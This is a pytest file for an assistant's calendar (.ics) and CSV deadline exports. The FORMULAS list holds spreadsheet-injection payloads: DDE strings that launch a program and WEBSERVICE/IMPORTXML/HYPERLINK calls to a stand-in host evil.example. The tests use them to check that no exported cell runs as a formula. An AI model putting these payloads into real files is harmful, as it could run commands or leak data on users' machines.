"""Deadlines to take away: a calendar that others parse, a table that no spreadsheet runs."""

from __future__ import annotations

import csv
import io
import unicodedata
from dataclasses import replace
from datetime import date, datetime

import pytest
import vobject
from fastapi.testclient import TestClient
from icalendar import Calendar, Event

from assistant.present.calendar import days_of, deadline_calendar
from assistant.present.spreadsheet import BYTE_ORDER_MARK, COLUMNS, deadline_csv
from assistant.records import BoundDeadline
from tests.assistant.present.example_documents import QUANG_NGAI, deadline, gia_lai, quang_ngai
from vectorstore.records import Deadline

PRINTED = "trước ngày 15/11 hàng năm"


def made(**facts: str | None) -> Deadline:
    return deadline(QUANG_NGAI, PRINTED, str(facts.pop("what", "báo cáo")), relation="before", **facts)


def bound(deadline: Deadline) -> BoundDeadline:
    return BoundDeadline(quang_ngai().document, deadline, None, None, "due")


def events(calendar: bytes) -> list[Event]:
    return list(Calendar.from_ical(calendar).walk("VEVENT"))


def event_of(deadline: Deadline) -> Event:
    return events(deadline_calendar([bound(deadline)], "vi"))[0]


@pytest.mark.parametrize(
    ("when", "end", "first", "last"),
    [
        ("2023-05-10", None, date(2023, 5, 10), date(2023, 5, 10)),
        ("2025-12", None, date(2025, 12, 1), date(2025, 12, 31)),
        ("2024-02", None, date(2024, 2, 1), date(2024, 2, 29)),
        ("2025-Q3", None, date(2025, 7, 1), date(2025, 9, 30)),
        ("2025", None, date(2025, 1, 1), date(2025, 12, 31)),
        ("2025-12-01", "2026-03-15", date(2025, 12, 1), date(2026, 3, 15)),
        ("06-15", None, date(2019, 6, 15), date(2019, 6, 15)),  # yearly from the document's year on
        ("02-29", None, date(2024, 2, 29), date(2024, 2, 29)),
    ],
)
def test_a_deadline_covers_the_days_that_it_names(when: str, end: str | None, first: date, last: date) -> None:
    days = days_of(made(date=when, end=end), "2019-04-08")
    assert days is not None
    assert (days.first, days.last) == (first, last)


@pytest.mark.parametrize("when", [None, "2023-13", "2023-02-30", "cuối năm", "99-99"])
def test_what_has_no_day_of_the_calendar_stands_in_none(when: str | None) -> None:
    assert days_of(made(date=when), "2019") is None


def test_a_yearly_deadline_recurs() -> None:
    event = event_of(made(date="11-15", recurrence="yearly"))
    assert event["RRULE"].to_ical() == b"FREQ=YEARLY"
    assert event["DTSTART"].dt == date(2019, 11, 15)
    assert event["DTEND"].dt == date(2019, 11, 16)  # exclusive, RFC 5545


def test_another_reader_finds_a_yearly_deadline_in_each_year_to_come() -> None:
    calendar = deadline_calendar([bound(made(date="11-15", recurrence="yearly"))], "vi")
    event = vobject.readOne(calendar.decode()).vevent
    days = event.getrruleset(addRDate=True).between(datetime(2026, 1, 1), datetime(2029, 1, 1))
    assert [day.date() for day in days] == [date(2026, 11, 15), date(2027, 11, 15), date(2028, 11, 15)]


def test_another_reader_finds_a_yearly_leap_day_in_years_without_one() -> None:
    calendar = deadline_calendar([bound(made(date="02-29", recurrence="yearly"))], "vi")
    event = vobject.readOne(calendar.decode()).vevent
    days = event.getrruleset(addRDate=True).between(datetime(2027, 1, 1), datetime(2028, 12, 31))
    assert [day.date() for day in days] == [date(2027, 2, 28), date(2028, 2, 29)]


def test_a_yearly_leap_day_falls_on_the_last_of_february() -> None:
    assert b"BYMONTHDAY=-1" in event_of(made(date="02-29", recurrence="yearly"))["RRULE"].to_ical()


def test_a_time_of_day_is_vietnams() -> None:
    assert event_of(made(date="2025-09-05", time="17:00"))["DTSTART"].dt == datetime.fromisoformat(
        "2025-09-05T10:00:00Z"
    )


def test_the_stamp_is_the_time_of_reading_so_that_the_same_file_comes_twice() -> None:
    calendar = deadline_calendar([bound(made(date="2025-09-05"))], "vi")
    assert calendar == deadline_calendar([bound(made(date="2025-09-05"))], "vi")
    assert events(calendar)[0]["DTSTAMP"].dt == datetime.fromisoformat("2026-11-22T14:31:00Z")


def test_an_events_identity_survives_a_new_reading_and_is_its_own() -> None:
    first = made(date="2025-09-05")
    again = bound(first)
    again = replace(again, document=replace(again.document, ingested_at="2027-01-01T00:00:00+00:00"))
    other = made(date="2025-09-05", what="báo cáo khác")
    calendar = events(deadline_calendar([bound(first), bound(other), bound(first)], "vi"))
    assert events(deadline_calendar([again], "vi"))[0]["UID"] == calendar[0]["UID"]
    assert len({event["UID"] for event in calendar}) == 3


def test_long_vietnamese_lines_survive_folding() -> None:
    words = "tổng hợp, báo cáo; kết quả thực hiện, " * 10
    assert str(event_of(made(date="2025-09-05", what=words))["SUMMARY"]).endswith(words)


def test_a_whole_calendar_is_valid_to_two_readers_and_says_the_same_to_both(client: TestClient) -> None:
    content = client.get("/api/deadlines.ics").content
    calendar = vobject.readOne(content.decode())
    calendar.validate(raiseException=True)
    assert Calendar.from_ical(content).errors == []
    assert all(len(line) <= 75 for line in content.split(b"\r\n"))  # octets, RFC 5545, 3.1
    theirs = [(str(event.uid.value), event.summary.value, event.dtstart.value) for event in calendar.vevent_list]
    ours = [(str(event["UID"]), str(event["SUMMARY"]), event["DTSTART"].dt) for event in events(content)]
    assert theirs == ours
    assert any(
        "Ủy ban nhân dân các huyện, thị xã, thành phố" in event.description.value for event in calendar.vevent_list
    )


def test_the_calendar_route_leaves_out_what_has_no_date(client: TestClient) -> None:
    response = client.get("/api/deadlines.ics")
    assert response.headers["content-type"] == "text/calendar; charset=utf-8"
    assert len(events(response.content)) == 3  # of four deadlines one is "6 tháng, 01 năm"


def test_excel_finds_its_mark_and_every_letter(client: TestClient) -> None:
    response = client.get("/api/deadlines.csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 4
    assert rows[0]["Thời hạn"] == "trước 10/5/2023"
    assert rows[0]["Số, ký hiệu"] == "79/KH-UBND"
    assert "attachment" in response.headers["content-disposition"]


FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","nhấn")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u2028=1+1",
    '"=1+1',
    '",=1+1',
    "\r\n=1+1,",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    'DDE ("cmd";"/C calc";"x")\n=1',
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_any_column_is_run(formula: str) -> None:
    facts = {"actors": formula, "report_to": formula, "via": formula, "section": formula, "period": formula}
    attack = made(what=formula, date=None, recurrence="periodic", **facts)
    header = replace(quang_ngai().document, number=formula, province=formula, issued=formula, source=formula)
    one = BoundDeadline(header, replace(attack, as_printed=formula), formula, "group", "undated")
    rows = list(csv.reader(io.StringIO(deadline_csv([one], "vi").removeprefix(BYTE_ORDER_MARK), newline="")))
    assert [len(row) for row in rows] == [len(COLUMNS), len(COLUMNS)]
    starts = {unicodedata.normalize("NFKC", cell.lstrip())[:1] for cell in rows[1]}
    assert not starts & {"=", "+", "-", "@"}
    assert not any("\n" in cell or "\r" in cell for cell in rows[1])


def test_a_cell_that_runs_nothing_is_left_as_it_is() -> None:
    one = bound(made(date="2025-09-05", what="báo cáo – tổng hợp = gửi Ủy ban nhân dân tỉnh"))
    assert "báo cáo – tổng hợp = gửi Ủy ban nhân dân tỉnh" in deadline_csv([one], "vi")


def test_a_line_end_in_a_cell_makes_no_new_row() -> None:
    text = deadline_csv([bound(made(date="2025-09-05", what="a\r\nb\nc"))], "vi")
    assert len(text.splitlines()) == 2


def test_both_speak_english_too() -> None:
    one = BoundDeadline(gia_lai().document, gia_lai().deadlines[0], "Sở Nội vụ", "group", "due")
    assert "before 10 May 2023" in deadline_csv([one], "en")
    assert "before 10 May 2023" in str(events(deadline_calendar([one], "en"))[0]["SUMMARY"])
